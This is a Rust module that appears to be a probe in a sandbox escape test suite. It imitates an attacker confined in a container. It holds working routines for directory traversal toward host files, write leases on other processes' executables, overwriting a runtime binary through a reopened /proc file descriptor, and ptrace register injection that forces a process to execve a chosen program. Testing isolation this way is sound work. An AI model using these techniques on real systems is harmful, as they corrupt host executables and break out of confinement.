//! What an attacker does who has got hold of something by a magic link: looks around from a working directory, takes a lease on a
//! runtime's executable, writes to it.
//!
//! Prints what came of it; the things of the host that it goes for are files made for the test, and a kernel parameter that is opened only.

use crate::judge::everybody;
use crate::sys::{self, Arg};
use std::collections::BTreeMap;
use std::fs::{File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::{FileExt, MetadataExt};
use std::time::{Duration, Instant};

type Done = Result<i32, String>;

/// Kernel parameters that need the whole of /proc/sys, from the directories in which one may find oneself.
const PARAMETERS: [&str; 4] =
    ["sys/kernel/domainname", "kernel/domainname", "domainname", "../kernel/domainname"];

/// `MARKER`: what can be reached from the working directory that should not be.
pub fn reach(rest: &[String]) -> Done {
    let marker = rest.first().ok_or("MARKER is missing")?;
    for way in ["", ".", "..", "../../../../../../../../../../../../../..", "../../../../.."] {
        let path = format!("{way}{marker}");
        if File::open(&path).is_ok() {
            println!("hit: {path} can be read");
        }
    }
    for path in PARAMETERS {
        if OpenOptions::new().write(true).open(path).is_ok() {
            println!("hit: {path} can be opened for writing");
        }
    }
    let here = std::fs::metadata(".").map_err(|e| format!("stat .: {e}"))?;
    match std::env::current_dir() {
        Ok(path) if path.is_absolute() => {
            // Again and again: while somebody exchanges what is on the way, it is what it is called at some moments only.
            let same = |_| {
                std::fs::metadata(&path)
                    .is_ok_and(|named| (named.dev(), named.ino()) == (here.dev(), here.ino()))
            };
            if (0..2000).any(same) {
                println!("cwd: {}", path.display());
            } else {
                println!("hit: . is {} and is covered there", path.display());
            }
        }
        other => println!("hit: . has no path here: {other:?}"),
    }
    Ok(0)
}

/// Leaves a file /hit, for those who may not say anything; the exit code says it too.
pub fn hit() -> Done {
    let _ = std::fs::write("/hit", "hit");
    println!("hit: this is a program of the host");
    Ok(42)
}

/// Executables of others, each once.
struct Executables(BTreeMap<(u64, u64), File>);

impl Executables {
    /// Adds what runs now; `pid`, or everybody, who are stopped for it.
    fn gather(&mut self, pid: Option<i32>) {
        let own = std::fs::metadata("/proc/self/exe").map(|stat| (stat.dev(), stat.ino())).ok();
        let all = pid.map_or_else(everybody, |pid| vec![pid]);
        for other in all.into_iter().filter(|other| other.cast_unsigned() != std::process::id()) {
            if pid.is_none() {
                crate::judge::stop(other);
            }
            if let Ok(file) = File::open(format!("/proc/{other}/exe"))
                && let Ok(stat) = file.metadata()
                && Some((stat.dev(), stat.ino())) != own
            {
                self.0.entry((stat.dev(), stat.ino())).or_insert(file);
            }
            if pid.is_none() {
                crate::judge::go_on(other);
            }
        }
    }
}

/// `SECONDS [PID]`: a write lease on the executable of PID or of everybody who comes by, as soon as it can be had, kept to the end.
pub fn lease(rest: &[String]) -> Done {
    let (end, pid) = arguments(rest)?;
    // Else the first who opens it would end us by SIGIO.
    sys::block_signals();
    let mut seen = Executables(BTreeMap::new());
    let mut leased = std::collections::BTreeSet::new();
    announce("looking");
    while Instant::now() < end {
        seen.gather(pid);
        for (of, file) in &seen.0 {
            let mut args = [
                Arg::Number(file.as_raw_fd().into()),
                Arg::Number(libc::F_SETLEASE.into()),
                Arg::Number(libc::F_WRLCK.into()),
            ];
            if !leased.contains(of) && sys::syscall(libc::SYS_fcntl, &mut args).is_ok() {
                leased.insert(*of);
                announce(&format!("leased {}:{}", of.0, of.1));
            }
        }
        std::thread::sleep(Duration::from_micros(200));
    }
    announce(&format!("{} seen", seen.0.len()));
    Ok(0)
}

/// `SECONDS [PID]`: opens these executables again for writing, as soon as nobody runs them, and writes.
pub fn overwrite(rest: &[String]) -> Done {
    let (end, pid) = arguments(rest)?;
    let mut seen = Executables(BTreeMap::new());
    let mut said = std::collections::BTreeSet::new();
    announce("looking");
    while Instant::now() < end {
        seen.gather(pid);
        for (of, file) in &seen.0 {
            let again = OpenOptions::new().write(true).open(format!("/proc/self/fd/{}", file.as_raw_fd()));
            if let Ok(open) = again {
                let result = open.write_at(b"overwritten", 0).map_err(|e| e.raw_os_error());
                if said.insert((*of, result.is_ok())) {
                    announce(&format!("opened {}:{} for writing: {result:?}", of.0, of.1));
                }
            }
        }
        std::thread::sleep(Duration::from_micros(200));
    }
    announce(&format!("{} seen", seen.0.len()));
    Ok(0)
}

/// `SECONDS PID`: the executable of PID is opened, PID made to execute this program in its place by ptrace, and then the file written.
pub fn usurp(rest: &[String]) -> Done {
    let (end, pid) = arguments(rest)?;
    let pid = pid.ok_or("PID is missing")?;
    let own = std::fs::metadata("/proc/self/exe").map_err(|e| e.to_string())?.ino();
    let exe = format!("/proc/{pid}/exe");
    let held = File::open(&exe).map_err(|e| format!("open {exe}: {e}"))?;
    let number = held.as_raw_fd();
    replace(pid).map_err(|errno| format!("ptrace {pid}: errno {errno}"))?;
    for _ in 0..1000 {
        if std::fs::metadata(&exe).is_ok_and(|now| now.ino() == own) {
            break;
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    // As long as anybody runs it, be it on the host, it is busy.
    loop {
        match OpenOptions::new().write(true).open(format!("/proc/self/fd/{number}")) {
            Ok(file) => announce(&format!("wrote: {:?}", file.write_at(b"overwritten", 0))),
            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < end => continue,
            Err(error) => announce(&format!("not opened: {error}")),
        };
        return Ok(0);
    }
}

/// `PID` executes `/probe sleep` at once.
#[cfg(target_arch = "x86_64")]
fn replace(pid: i32) -> Result<(), sys::Errno> {
    const GETREGS: i64 = 12;
    const SETREGS: i64 = 13;
    let ptrace = |request: i64, address: i64, data: Arg| {
        let mut args = [Arg::Number(request), Arg::Number(pid.into()), Arg::Number(address), data];
        sys::syscall(libc::SYS_ptrace, &mut args).map(|_| args)
    };
    ptrace(libc::PTRACE_ATTACH.into(), 0, Arg::Number(0))?;
    let mut wait =
        [Arg::Number(pid.into()), Arg::Number(0), Arg::Number(libc::__WALL.into()), Arg::Number(0)];
    sys::syscall(libc::SYS_wait4, &mut wait)?;
    let [_, _, _, registers] = ptrace(GETREGS, 0, Arg::Buffer(vec![0; 27 * 8]))?;
    let Arg::Buffer(bytes) = registers else { return Err(libc::EINVAL) };
    let mut words: Vec<i64> =
        bytes.chunks_exact(8).map(|word| i64::from_ne_bytes(word.try_into().unwrap_or_default())).collect();
    // As `struct user_regs_struct` has them.
    let [rax, rdx, rsi, rdi, orig_rax, rip, rsp] = [10, 12, 13, 14, 15, 16, 19];
    let place = (words[rsp] - 4096) & !15;
    let text = |text: &[u8; 8]| i64::from_ne_bytes(*text);
    for (word, offset) in
        [(text(b"/probe\0\0"), 0), (text(b"sleep\0\0\0"), 8), (place, 16), (place + 8, 24), (0, 32)]
    {
        ptrace(libc::PTRACE_POKEDATA.into(), place + offset, Arg::Number(word))?;
    }
    // It hangs in a call: the instruction for that is just before.
    words[rip] -= 2;
    words[rax] = libc::SYS_execve;
    (words[rdi], words[rsi], words[rdx], words[orig_rax]) = (place, place + 16, 0, -1);
    let bytes = words.iter().flat_map(|word| word.to_ne_bytes()).collect();
    ptrace(SETREGS, 0, Arg::Buffer(bytes))?;
    ptrace(libc::PTRACE_DETACH.into(), 0, Arg::Number(0)).map(drop)
}

/// Not written for this machine.
#[cfg(not(target_arch = "x86_64"))]
fn replace(_: i32) -> Result<(), sys::Errno> {
    Err(libc::ENOSYS)
}

fn arguments(rest: &[String]) -> Result<(Instant, Option<i32>), String> {
    let number = |text: &String| text.parse::<u32>().map_err(|_| format!("{text} is not a number"));
    let seconds = rest.first().map(number).ok_or("SECONDS is missing")??;
    let pid = rest.get(1).map(number).transpose()?;
    Ok((Instant::now() + Duration::from_secs(seconds.into()), pid.map(u32::cast_signed)))
}

fn announce(line: &str) {
    println!("{line}");
    let _ = std::io::stdout().flush();
}
